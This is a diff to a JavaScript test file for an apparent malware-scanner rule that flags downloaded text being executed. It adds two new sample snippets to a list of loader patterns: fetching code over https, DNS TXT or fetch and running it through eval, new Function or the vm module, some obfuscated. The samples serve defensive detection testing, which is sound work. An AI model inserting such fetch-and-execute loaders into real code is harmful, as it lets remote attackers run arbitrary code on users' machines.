@@ -80,6 +80,8 @@ describe('remote-eval: downloaded text evaluated, linked to its download', () =>
     ['a helper that downloads, its answer run in a new context', "function download(u) { return new Promise((ok) => require('https').get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => ok(d)); })); }\n{{PAD}}\nconst payload = await download(url);\n{{PAD}}\nrequire('vm').runInNewContext(payload, { require });"],
     ['a DNS TXT record evaluated', "const dns = require('dns');\ndns.resolveTxt('cfg.example', (err, records) => {\n{{PAD}}\neval(records.flat().join('')); });"],
     ["the https module under another name, read by bracket, and a decoded image's payload (GuardDog's steganography shape)", "const t = 'base64', h = require('https');\nh['get']('https://cdn.example/initial.png', (response) => { let data = ''; response.on('data', (r) => { data += r; });\n{{PAD}}\nresponse.on('end', () => { let plain = Buffer.from(data, t).toString(); eval(plain); }); });"],
+    ['get taken out of https by name, under another name', "const { get: download } = require('https');\ndownload(u, (r) => { let s = ''; r.on('data', (c) => (s += c));\n{{PAD}}\nr.on('end', () => new Function(s)()); });"],
+    ['request imported by name from http', "import { request } from 'http';\nrequest(u, (r) => { r.setEncoding('utf8'); r.on('data', (c) => {\n{{PAD}}\neval(c); }); }).end();"],
     ['a downloaded script compiled by new vm.Script', "const vm = require('vm');\nconst src = await (await fetch(u)).text();\n{{PAD}}\nnew vm.Script(src).runInThisContext();"],
   ])('%s', (_name, code) => {
     // Close together and with unrelated code between: found either way.
